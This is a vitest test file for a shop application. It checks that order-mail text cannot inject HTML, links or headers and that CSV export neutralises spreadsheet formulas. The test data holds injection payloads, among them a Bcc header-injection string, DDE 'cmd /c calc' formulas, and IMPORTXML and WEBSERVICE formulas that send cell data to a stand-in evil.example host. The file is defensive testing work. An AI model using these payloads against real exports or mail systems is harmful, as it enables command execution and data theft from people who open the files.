import { expect, test } from "vitest";

import { formatCsvLine, parseCsv, removeFormulaGuard } from "#app/formats/csv.ts";
import { writeMail } from "#app/mail/write.ts";
import type { MailContent, MailOrder } from "#app/shop/mail/mail.ts";
import { attackClass } from "#tests/attacks/support/attacks.ts";
import { PAYLOADS } from "#tests/attacks/support/stored-payloads.ts";

const attackMail = attackClass("write HTML, headers and links into mails");
const attackCsv = attackClass("write formulas into CSV");

const SITE = "https://shop.example";
const NEUTRAL = "plain";

const orderWith = (text: string): MailOrder => ({
  orderNumber: "ORD-1780000000000",
  placedAt: "2026-11-20T10:50:00Z",
  deliveryFrom: null,
  deliveryTo: null,
  status: "confirmed",
  paymentMethod: "cod",
  paymentStatus: "pending",
  subtotal: 999_00,
  shipping: 0,
  tax: 0,
  discount: 0,
  roundOff: 0,
  total: 999_00,
  couponCode: text,
  firstName: text,
  address: [text, text],
  items: [{ name: text, quantity: 1, total: 999_00 }],
});

const orderId = "00000000-0000-4000-8000-000000003001";
const mailsWith = (text: string): MailContent[] => [
  { kind: "order-confirmed", orderId, order: orderWith(text) },
  {
    kind: "order-shipped",
    orderId,
    order: orderWith(text),
    carrier: text,
    trackingNumber: text,
    trackingUrl: null,
    parcel: [{ name: text, quantity: 1 }],
  },
  { kind: "owner-order", orderId, order: orderWith(text) },
  {
    kind: "owner-message",
    ticketNumber: "T-000042",
    name: text,
    email: text,
    orderNumber: text,
    message: text,
  },
  {
    kind: "return-update",
    orderId,
    request: {
      orderNumber: "ORD-1780000000000",
      number: "RET-1780000000001",
      kind: "return",
      status: "rejected",
      rejectedReason: text,
      refundAmount: null,
      expectedAmount: null,
      refundMode: "upi",
      way: { way: "post", address: "<b>1 Road</b>" },
      refundInstead: false,
      items: [{ name: text, quantity: 1, replacement: text, reason: "damaged" }],
      reference: text,
      carrier: text,
      trackingNumber: text,
      hasCreditNote: true,
    },
  },
];

function write(content: MailContent, siteName: string) {
  const shop = {
    siteName,
    contactEmail: "care@shop.example",
    contactPhone: "+91 80 4000 4000",
    refundDays: 7,
    returnWindowDays: 7,
    deliveryDaysMin: 2,
    deliveryDaysMax: 5,
  };
  return writeMail({ shop, content }, SITE);
}

const tagsOf = (html: string) =>
  (html.match(/<[a-z!/][^>]*>/gi) ?? []).map((tag) => tag.replaceAll(/="[^"]*"/g, "")).join("");
const linksOf = (html: string) => Array.from(html.matchAll(/\b(?:href|src)="([^"]*)"/g), ([, link]) => link);

test("text in a mail stays text: no tag, link or header of its own", async () => {
  const texts = [
    ...PAYLOADS,
    "Meera\r\nBcc: everybody@example.com",
    "Meera\n\n<b>x</b>",
    "=?utf-8?q?x?=",
    "https://evil.example/pay",
  ];
  for (const text of texts) {
    for (const [at, content] of mailsWith(text).entries()) {
      await attackMail(`${content.kind} ${text}`, () => {
        const mail = write(content, text);
        const plain = write(mailsWith(NEUTRAL)[at] ?? content, NEUTRAL);
        expect(mail.subject).not.toMatch(/[\r\n]/);
        // Each line of a text is a paragraph or a break.
        const isOneLine = !text.includes("\n");
        expect(isOneLine ? tagsOf(mail.html) : "").toBe(isOneLine ? tagsOf(plain.html) : "");
        expect(
          linksOf(mail.html).filter((link) => !/^(https:\/\/shop\.example|mailto:)/.test(link ?? "")),
        ).toEqual([]);
      });
    }
  }
});

const FORMULAS = [
  ..."=1+1 +1+1 -1+1 @SUM(1) =cmd|'/c_calc'!A0 =HYPERLINK(\"https://evil.example\") ＝1+1 ＋1 －1 ＠x".split(
    " ",
  ),
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '=WEBSERVICE("https://evil.example/")',
  '=DDE("cmd";"/C calc";"x")',
  "\t=1+1",
  "\r=1+1",
  '=1+1",=2+2',
  '"=1+1',
  "=1+1\n=2+2",
  "-2+3+cmd|' /C calc'!A0",
  "+91 98765 43210",
  "@here",
  "=A1:A9",
  "=+1",
  "==1",
  "=-1",
  "-",
  "=",
  "+",
];

test("no field of a CSV file begins as a formula, and an import reads what was written", async () => {
  for (const text of FORMULAS) {
    await attackCsv(JSON.stringify(text), () => {
      const [row] = parseCsv(formatCsvLine(["before", text, "after"])) ?? [];
      expect(row?.fields).toHaveLength(3);
      const field = row?.fields[1] ?? "";
      expect(field).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      expect(removeFormulaGuard(field).replace(/^'/, "").replaceAll("\n", "")).toBe(
        text.replaceAll(/[\r\n]/g, ""),
      );
    });
  }
});
